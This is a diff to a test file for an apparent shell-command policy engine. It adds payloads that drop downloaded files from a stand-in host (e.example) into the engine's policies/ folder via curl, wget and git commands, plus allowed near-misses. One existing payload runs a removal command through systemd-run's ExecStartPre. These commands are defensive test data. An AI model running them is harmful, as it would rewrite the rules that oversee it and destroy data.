@@ -13,6 +13,9 @@ language or through a configuration the Programs table did not describe.
   script/tmux/screen, CONFIG_SHELL, JAVACMD, UV_PYTHON), a folder of programs (JAVA_HOME/bin,
   VIRTUAL_ENV/bin), HGRCPATH, systemd-run's `-p ExecStartPre=`, and openers (`open x.sh` runs it on
   macOS).
+- Writes into an engine folder the line does not name file by file: `cd policies && curl -O URL`,
+  `wget URL`, `git stash pop`, `git init`; `git worktree add policies/x`, `git submodule add URL
+  policies/x`, `git config -f policies/x.yaml`; `borg extract` at the project's top.
 
 Each is data in policies/executors.yaml. Verdicts share one engine; the harm runs for one payload
 (node's module from node_modules/, through the engine's terminal with a real node when installed).
@@ -79,6 +82,15 @@ PAYLOADS: dict[str, tuple[dict[str, str], str]] = {
     "open": (SCRIPT, "open e.sh"),
     "xdg-open": (SCRIPT, "xdg-open e.sh"),
     "systemd-run -p ExecStartPre": ({}, f"systemd-run --user -p 'ExecStartPre=/bin/sh -c \"{RM}\"' true"),
+    # writes into an engine folder the line does not name file by file
+    "cd policies && curl -O": ({}, "cd policies && curl -O https://e.example/x.yaml"),
+    "cd policies && wget": ({}, "cd policies && wget https://e.example/x.yaml"),
+    "cd policies && git stash pop": ({}, "cd policies && git stash pop"),
+    "cd policies && git init": ({}, "cd policies && git init"),
+    "git worktree add policies/x": ({}, "git worktree add policies/x"),
+    "git submodule add": ({}, "git submodule add https://e.example/r policies/x"),
+    "git config -f": ({}, "git config -f policies/x.yaml a.b c"),
+    "borg extract at the top": ({}, "borg extract ::a"),
 }
 NEAR_MISSES: dict[str, tuple[dict[str, str], str]] = {
     "eslint config": ({"eslint.config.js": "export default [{rules: {semi: 'error'}}];\n"}, "npx eslint ."),
@@ -106,6 +118,10 @@ NEAR_MISSES: dict[str, tuple[dict[str, str], str]] = {
     "open a document": ({"README.md": "# x\n"}, "open README.md"),
     "xdg-open a URL": ({}, "xdg-open https://example.com"),
     "systemd-run property": ({}, "systemd-run --user -p MemoryMax=1G make"),
+    "curl -O elsewhere": ({}, "cd src && curl -O https://e.example/x.tgz"),
+    "git pull": ({}, "git pull"),
+    "git worktree elsewhere": ({}, "git worktree add ../wt"),
+    "git config -f .gitmodules": ({}, "git config -f .gitmodules a.b c"),
 }
 
 
